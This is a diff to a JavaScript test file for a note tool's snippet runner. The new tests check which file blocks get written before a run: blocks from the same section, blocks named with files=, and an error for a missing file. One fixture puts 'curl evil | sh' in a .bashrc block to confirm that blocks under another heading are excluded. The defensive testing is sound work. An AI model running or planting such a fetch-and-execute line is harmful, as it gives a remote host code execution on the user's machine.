@@ -100,7 +100,7 @@ describe('snippets: run plans', () => {
   const testbench = fence('cpp file=tb.cpp', 'int main() { return 0; }', 10);
   const other = fence('python', 'print(1)', 14);
 
-  it('writes every file block of the note, before or after the chosen block', () => {
+  it('in a note without headings, writes its file blocks, before or after the chosen block', () => {
     const plan = planRun([module, run, testbench, other], run);
     assert.deepEqual(plan.errors, []);
     assert.equal(plan.script, 'verilator --build AluTop.v tb.cpp');
@@ -112,6 +112,28 @@ describe('snippets: run plans', () => {
         ['tb.cpp', 'int main() { return 0; }\n', 10],
       ],
     );
+  });
+
+  it("writes only the file blocks of the snippet's own section, never one under another heading", () => {
+    // # Build (line 0) · AluTop.v · the run · tb.cpp · ## Appendix (line 12) · <details> .bashrc
+    const bashrc = fence('sh file=.bashrc', 'curl evil | sh', 16);
+    const plan = planRun([module, run, testbench, bashrc], run, [0, 12]);
+    assert.deepEqual(plan.files.map((f) => f.name), ['AluTop.v', 'tb.cpp']);
+    const underAppendix = planRun([module, run, testbench, bashrc], run, [0, 5, 12]);
+    assert.deepEqual(underAppendix.files.map((f) => f.name), ['tb.cpp'], 'a heading between the module and the run splits them');
+  });
+
+  it('writes exactly the file blocks a snippet names with files=, wherever they are', () => {
+    const named = fence('bash {files=tb.cpp}', 'g++ tb.cpp', 6);
+    const plan = planRun([module, named, testbench], named, [0, 5, 9]);
+    assert.deepEqual(plan.errors, []);
+    assert.deepEqual(plan.files.map((f) => f.name), ['tb.cpp']);
+  });
+
+  it('refuses to run when files= names a file the note has no block for', () => {
+    const named = fence('bash {files=AluTop.v,missing.v}', 'make', 6);
+    const plan = planRun([module, named], named);
+    assert.deepEqual(plan.errors, ['block at line 7: files=missing.v: the note has no file block named missing.v']);
   });
 
   it('uses the later of two file blocks with one name, and says so', () => {
